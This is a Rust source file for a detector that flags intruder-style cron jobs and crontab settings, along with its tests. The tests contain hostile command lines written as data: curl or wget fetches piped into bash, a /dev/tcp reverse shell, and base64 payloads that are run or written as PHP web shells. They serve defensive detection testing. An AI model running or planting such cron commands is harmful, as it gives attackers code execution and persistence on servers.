//! Cron jobs that do what an intruder's do.

use super::shell::{self, Sign};
use super::{Detector, Indicators, Inside, Report};
use crate::model::{Category, CronEntry, Evidence, EvidencePath, Finding, RawText, Severity, Subject};
use crate::parse::crontab::{self, Line, Style};
use crate::parse::{Format, Limits};
use crate::sweep::Swept;
use std::sync::Arc;

/// Judges each line of each crontab by itself.
pub struct CronDetector {
    indicators: Arc<Indicators>,
}

impl CronDetector {
    /// A detector with these indicators.
    pub fn new(indicators: Arc<Indicators>) -> Self {
        Self { indicators }
    }

    fn job(&self, job: &CronEntry, report: &mut Report) {
        let subject = || Subject::CronEntry { path: job.path.clone(), line: job.line, text: job.text.clone() };
        let command = job.command.as_bytes();
        let signs = shell::cron_signs(command);
        for sign in &signs {
            let (rule, severity, confidence, attack) = weigh(sign);
            let title = format!("Cron job that {}", sign.describe());
            let mut finding = Finding::new(
                rule,
                title,
                (Category::Persistence, severity, confidence),
                subject(),
                evidence(job.line, &job.text, &job.user, sign.path()),
            );
            finding = finding.with_attack(["T1053.003"]).with_attack(attack.iter().copied());
            report.findings.push(finding);
        }
        self.places(command, &subject, &evidence(job.line, &job.text, &job.user, None), report);
        if job.user.as_bytes() == b"asterisk" && signs.is_empty() && is_foreign_to_freepbx(command) {
            let finding = Finding::new(
                "TR-CRON-0008",
                "Cron job of the Asterisk user that no FreePBX module makes",
                (Category::Persistence, Severity::Medium, 50),
                subject(),
                evidence(job.line, &job.text, &job.user, None),
            );
            report.findings.push(finding.with_attack(["T1053.003"]));
        }
    }

    /// Paths in a command that a published indicator names.
    fn places(&self, command: &[u8], subject: &dyn Fn() -> Subject, evidence: &[Evidence], report: &mut Report) {
        for word in command.split(|b| b.is_ascii_whitespace() || b"'\"|&;<>()`$=,".contains(b)) {
            let Some(path) = word.starts_with(b"/").then(|| EvidencePath::new(word).ok()).flatten() else { continue };
            for indicator in self.indicators.at(&path).filter(|indicator| indicator.severity >= Severity::High) {
                let mut evidence = evidence.to_vec();
                evidence.push(Evidence::Attribute { name: "indicator".into(), value: indicator.id.as_str().into() });
                let finding = Finding::new(
                    "TR-CRON-0007",
                    "Cron job that names a file of a known campaign",
                    (Category::Persistence, indicator.severity, indicator.confidence),
                    subject(),
                    evidence,
                );
                report.findings.push(finding.with_attack(["T1053.003"]));
            }
        }
    }
}

impl Detector for CronDetector {
    fn inspect(&self, file: &Swept<'_>, report: &mut Report) {
        let format = Format::at(file.path);
        let is_crontab = matches!(format, Some(Format::SystemCrontab | Format::UserCrontab | Format::Anacrontab));
        let Some(content) = file.content.filter(|_| is_crontab && file.meta.is_file()) else { return };
        let outcome = crontab::read(file.path, &Style::at(file.path), content, &Limits::default());
        report.gaps.extend(outcome.gaps);
        for line in outcome.value {
            match line {
                Line::Job(job) => self.job(&job, report),
                Line::Environment { line, name, value, text } => {
                    setting(file.path, line, &name, &value, &text, report);
                }
                // A line that this parser does not understand may be one that some cron does.
                Line::Odd { line, text, .. } => {
                    let job = CronEntry {
                        path: file.path.clone(),
                        line,
                        schedule: String::new(),
                        user: RawText::default(),
                        command: text.clone(),
                        text,
                    };
                    self.job(&job, report);
                }
            }
        }
    }

    fn looks_inside(&self, inside: Inside) -> bool {
        inside == Inside::Member
    }
}

/// The rule for a sign, and how bad and sure it is.
pub(super) fn weigh(sign: &Sign) -> (&'static str, Severity, u8, &'static [&'static str]) {
    match sign {
        Sign::DownloadsAndRuns => ("TR-CRON-0001", Severity::High, 85, &["T1105", "T1059.004"]),
        Sign::DecodesAndRuns => ("TR-CRON-0002", Severity::High, 90, &["T1140", "T1027"]),
        Sign::RunsFromTemporary(path) if shell::is_hidden(path) => ("TR-CRON-0003", Severity::High, 85, &["T1564.001"]),
        Sign::RunsFromTemporary(_) => ("TR-CRON-0003", Severity::High, 65, &[]),
        Sign::RunsHidden(path) if path.starts_with(b"/home/") || path.starts_with(b"/root/") => {
            ("TR-CRON-0004", Severity::Medium, 50, &["T1564.001"])
        }
        Sign::RunsHidden(_) => ("TR-CRON-0004", Severity::High, 80, &["T1564.001"]),
        Sign::RestartsIfMissing(_) => ("TR-CRON-0005", Severity::Medium, 55, &[]),
        Sign::WritesPhp(_) => ("TR-CRON-0006", Severity::High, 85, &["T1505.003"]),
        Sign::Mines => ("TR-CRON-0015", Severity::High, 90, &["T1496"]),
        Sign::ConnectsShell => ("TR-CRON-0010", Severity::High, 90, &["T1059.004"]),
    }
}

fn evidence(line: u64, text: &RawText, user: &RawText, path: Option<&[u8]>) -> Vec<Evidence> {
    let mut evidence = vec![
        Evidence::Line { line, text: text.clone() },
        Evidence::Attribute { name: "user".into(), value: user.clone() },
    ];
    evidence.extend(path.map(|path| Evidence::Attribute { name: "path".into(), value: path.into() }));
    evidence
}

/// A setting that puts the intruder's program in the place of a genuine one.
fn setting(path: &EvidencePath, line: u64, name: &RawText, value: &RawText, text: &RawText, report: &mut Report) {
    let is_evil_place = |value: &[u8]| shell::is_temporary(value) || shell::is_hidden(value);
    let (severity, confidence) = match name.as_bytes() {
        b"LD_PRELOAD" | b"LD_LIBRARY_PATH" | b"LD_AUDIT" | b"BASH_ENV" if !value.is_empty() => (Severity::High, 75),
        b"SHELL" if is_evil_place(value.as_bytes()) => (Severity::High, 80),
        b"PATH" if value.as_bytes().split(|&b| b == b':').any(|part| is_evil_place(&[part, b"/x"].concat())) => {
            (Severity::Medium, 60)
        }
        _ => return,
    };
    let finding = Finding::new(
        "TR-CRON-0009",
        "Crontab setting that changes what its jobs run",
        (Category::Persistence, severity, confidence),
        Subject::CronEntry { path: path.clone(), line, text: text.clone() },
        vec![Evidence::Line { line, text: text.clone() }],
    );
    report.findings.push(finding.with_attack(["T1053.003", "T1574.006"]));
}

/// Says whether a job of the Asterisk user uses what no job of `FreePBX` does.
///
/// Modules add jobs of their own, so a program that is not known is no sign by itself; a downloader, decoder or watchdog is.
pub(super) fn is_foreign_to_freepbx(command: &[u8]) -> bool {
    const TOOLS: [&[u8]; 7] = [b"wget", b"curl", b"base64", b"pgrep", b"nc", b"bash", b"python"];
    command.split(|b| b.is_ascii_whitespace() || b"'\"|&;<>()`$/".contains(b)).any(|word| TOOLS.contains(&word))
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::indexing_slicing)]
mod tests {
    use super::super::testing::{Scene, ids};
    use crate::model::Severity;

    /// Files of the packages' own, as Debian 12, `CentOS` 7 and `FreePBX` 17 lay them.
    const CLEAN: &[(&str, &str)] = &[
        ("/etc/crontab", include_str!("../../../testdata/crontab/debian_12.in")),
        ("/etc/anacrontab", include_str!("../../../testdata/anacrontab/centos_7.in")),
        ("/var/spool/cron/crontabs/asterisk", include_str!("../../../testdata/crontab_user/asterisk_of_freepbx_17.in")),
        (
            "/etc/cron.d/php",
            "09,39 *     * * *     root   [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi\n",
        ),
        (
            "/etc/cron.d/e2scrub_all",
            "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n10 3 * * * root test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r\n",
        ),
        (
            "/etc/cron.d/anacron",
            "30 7-23 * * *   root\t[ -x /etc/init.d/anacron ] && if [ ! -d /run/systemd/system ]; then /usr/sbin/invoke-rc.d anacron start >/dev/null; fi\n",
        ),
        (
            "/etc/cron.d/sysstat",
            "PATH=/usr/lib/sysstat:/usr/sbin:/usr/sbin:/usr/bin:/sbin:/bin\n5-55/10 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1\n59 23 * * * root command -v debian-sa1 > /dev/null && debian-sa1 60 2\n",
        ),
        (
            "/etc/cron.d/mdadm",
            "57 0 * * 0 root if [ -x /usr/share/mdadm/checkarray ] && [ $(date +\\%d) -le 7 ]; then /usr/share/mdadm/checkarray --cron --all --idle --quiet; fi\n",
        ),
        (
            "/etc/cron.d/popularity-contest",
            "SHELL=/bin/sh\n12 3 * * *   root    test -x /etc/cron.daily/popularity-contest && /etc/cron.daily/popularity-contest --crond\n",
        ),
        (
            "/etc/cron.d/certbot",
            "0 */12 * * * root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew --no-random-sleep-on-renew\n",
        ),
        (
            "/etc/cron.d/0hourly",
            "SHELL=/bin/bash\nPATH=/sbin:/bin:/usr/sbin:/usr/bin\nMAILTO=root\n01 * * * * root run-parts /etc/cron.hourly\n",
        ),
        ("/etc/cron.d/raid-check", "0 1 * * Sun root /usr/sbin/raid-check\n"),
        (
            "/etc/cron.d/freepbx",
            "0 */6 * * * asterisk /var/lib/asterisk/bin/cleanuptcmaint.php\n@daily asterisk /usr/sbin/fwconsole certificates --updateall -q 2>&1 >/dev/null\n0 2 * * * asterisk [ -e /usr/sbin/fwconsole ] && sleep $((RANDOM\\%30)) && /usr/sbin/fwconsole backup --backup=abc >/dev/null\n",
        ),
        (
            "/var/spool/cron/root",
            "*/5 * * * * /usr/bin/php -q /var/www/nextcloud/cron.php\n0 3 * * * /usr/local/sbin/backup >/tmp/backup.log 2>&1\n0 4 * * * wget -q -O - https://example.org/wp-cron.php?doing_wp_cron >/dev/null 2>&1\n11 0 * * * \"/root/.acme.sh\"/acme.sh --cron --home \"/root/.acme.sh\" > /dev/null\n",
        ),
    ];

    #[test]
    fn clean_crontabs_give_nothing() {
        let scene = CLEAN.iter().fold(Scene::new(), |scene, (path, text)| scene.file(path, text));
        let findings = scene.findings();
        assert!(findings.is_empty(), "{findings:#?}");
    }

    #[test]
    fn each_way_of_the_campaign_is_found() {
        for (line, rule) in [
            (
                "*/1 * * * * wget -q http://192.0.2.1/k.php -O /var/lib/asterisk/bin/zen222 && bash /var/lib/asterisk/bin/zen222",
                "TR-CRON-0001 high",
            ),
            (
                "*/1 * * * * wget -q http://192.0.2.1/k.php -O /var/lib/asterisk/bin/zen222 && bash /var/lib/asterisk/bin/zen222",
                "TR-CRON-0007 critical",
            ),
            ("*/2 * * * * /tmp/.cache/update", "TR-CRON-0003 high"),
            ("*/3 * * * * /dev/shm/.systemd/kernel", "TR-CRON-0007 high"),
            ("17 * * * * echo 'ZXhpdA==' | base64 -d | bash", "TR-CRON-0002 high"),
            ("* * * * * pgrep -f 'zen2|devnull2' || (bash /var/lib/asterisk/bin/zen2 &)", "TR-CRON-0005 medium"),
            (
                "* * * * * for f in /usr/share/.fonts/.config /opt/.local/.bashrc; do crontab $f; done",
                "TR-CRON-0007 critical",
            ),
            ("* * * * * curl -s http://45.95.147.178/z/post/root.php | bash", "TR-IOC-0101 critical"),
            ("* * * * * echo PD9waHAgZXhpdDs= | base64 -d > /var/www/html/x.php", "TR-CRON-0006 high"),
            ("* * * * * bash -c 'exec bash -i >& /dev/tcp/192.0.2.1/443 0>&1'", "TR-CRON-0010 high"),
            ("LD_PRELOAD=/usr/local/lib/x.so", "TR-CRON-0009 high"),
            ("99 x * * * curl http://192.0.2.1/x | sh", "TR-CRON-0001 high"),
        ] {
            let findings = Scene::new().file("/var/spool/cron/root", line).findings();
            assert!(ids(&findings).contains(&rule.to_owned()), "{line}: {:?}", ids(&findings));
        }
    }

    #[test]
    fn a_download_of_the_asterisk_user_is_told_although_it_is_not_run() {
        let findings = Scene::new()
            .file("/var/spool/cron/asterisk", "* * * * * curl -s http://192.0.2.1/ping >/dev/null\n")
            .findings();
        assert_eq!(ids(&findings), ["TR-CRON-0008 medium"]);
    }

    #[test]
    fn an_address_in_a_remark_or_in_a_block_is_low() {
        let text = "# 45.95.147.178 seen on Monday\n@reboot root iptables -A INPUT -s 45.95.147.178 -j DROP\n";
        let findings = Scene::new().file("/etc/cron.d/local", text).findings();
        assert_eq!(findings.len(), 2);
        assert!(findings.iter().all(|finding| finding.severity == Severity::Low), "{findings:#?}");
    }

    #[test]
    fn a_longer_address_is_another_address() {
        let text = "* * * * * root ping 145.95.147.178\n* * * * * root ping 45.95.147.1781\n* * * * * root ping 45.95.147.178.5\n";
        assert!(Scene::new().file("/etc/cron.d/local", text).findings().is_empty());
    }
}
